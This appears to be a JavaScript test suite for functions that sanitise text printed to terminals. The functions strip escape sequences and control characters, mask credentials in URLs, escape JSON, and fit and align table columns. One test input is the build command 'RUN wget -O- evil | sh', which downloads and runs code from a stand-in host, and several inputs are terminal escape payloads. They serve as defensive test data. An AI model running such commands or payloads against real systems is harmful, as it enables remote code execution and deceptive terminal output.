import assert from 'node:assert/strict';
import fc from 'fast-check';
import { jsonText } from '../src/print/json.js';
import { ago, table } from '../src/print/table.js';
import { bytes, fit, harmless, oneLine, seconds, width } from '../src/progress/text.js';

describe('text for terminals', () => {
  it('takes out what could harm a terminal', () => {
    assert.equal(harmless('a\u001b[31mred\u001b[0m\u001b]8;;http://x\u001b\\link\u001b]8;;\u001b\\'), 'aredlink');
    assert.equal(harmless('10%\r50%\r100%\r'), '100%');
    assert.equal(harmless('a\tb\u0007\u009b2Jc\u202ed'), 'a    bcd');
    assert.equal(harmless('\u001b(0\u001bcx\u001b'), 'x');
  });

  it('hides nothing of what is run, and shows no password of an address', () => {
    assert.equal(oneLine('RUN wget -O- evil | sh #\rRUN true\r'), 'RUN wget -O- evil | sh # RUN true');
    assert.equal(oneLine('RUN : \u001b]0; evil'), 'RUN : ]0; evil');
    assert.equal(oneLine('ADD http://me:se:sa@me@h/f /'), 'ADD http://me:***@h/f /');
    assert.equal(oneLine('RUN git clone https://me:$TOKEN@h/r'), 'RUN git clone https://me:***@h/r');
    for (const text of ['docker-image://a:1@sha256:00', 'ADD git@h:r.git /', 'mail me@h//x', 'http://[::1]:5/@'])
      assert.equal(oneLine(text), text);
  });

  it('leaves no control character of any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        assert.doesNotMatch(harmless(text), /[\p{Cc}\p{Cf}]/u);
        assert.doesNotMatch(oneLine(text), /[\p{Cc}\p{Cf}]/u);
      }),
    );
  });

  it('keeps a platform or name that would command the terminal out of tables', () => {
    const printed = table(['A', 'B'], [['linux\u001b[2J\u009b2J/x\u202e', 'y\nz']]);
    assert.equal(printed, 'A        B\nlinux/x  yz\n');
  });

  it('escapes what could harm a terminal in JSON, which says the same', () => {
    const value = { 'a\u009b2J': ['\u001b[2J\u007f\u202e\u2028\ufeff', '漢😀', '\u{e0041}'], n: [1, null] };
    for (const indent of [undefined, 2]) {
      const text = jsonText(value, indent);
      assert.deepEqual(JSON.parse(text), value);
      assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      assert.ok(text.includes('漢😀'));
    }
    fc.assert(
      fc.property(fc.json(), (text) => assert.deepEqual(JSON.parse(jsonText(JSON.parse(text))), JSON.parse(text))),
    );
  });

  it('fits any text into columns', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.nat(20), (text, columns) => {
        assert.ok(width(fit(text, columns)) <= columns);
      }),
    );
    assert.equal(fit('abcdef', 4), 'abc…');
    assert.equal(fit('abcd', 4), 'abcd');
  });

  it('prints times and sizes', () => {
    assert.equal(seconds(412), '0.4s');
    assert.deepEqual([0, 999, 1000, 3_400_000, 12_345_678_901].map(bytes), [
      '0B',
      '999B',
      '1.00kB',
      '3.40MB',
      '12.3GB',
    ]);
    assert.deepEqual(
      ['1970-01-01T00:00:59Z', '1970-01-01T00:00:00Z', '1969-12-29T00:01:00Z', 'nonsense', undefined].map((t) =>
        ago(t, 60_000),
      ),
      ['1 second ago', '1 minute ago', '3 days ago', '', ''],
    );
  });

  it('aligns tables', () => {
    assert.equal(
      table(
        ['A', 'BB'],
        [
          ['xxx', 'y'],
          ['漢', 'z'],
        ],
      ),
      'A    BB\nxxx  y\n漢   z\n',
    );
  });
});
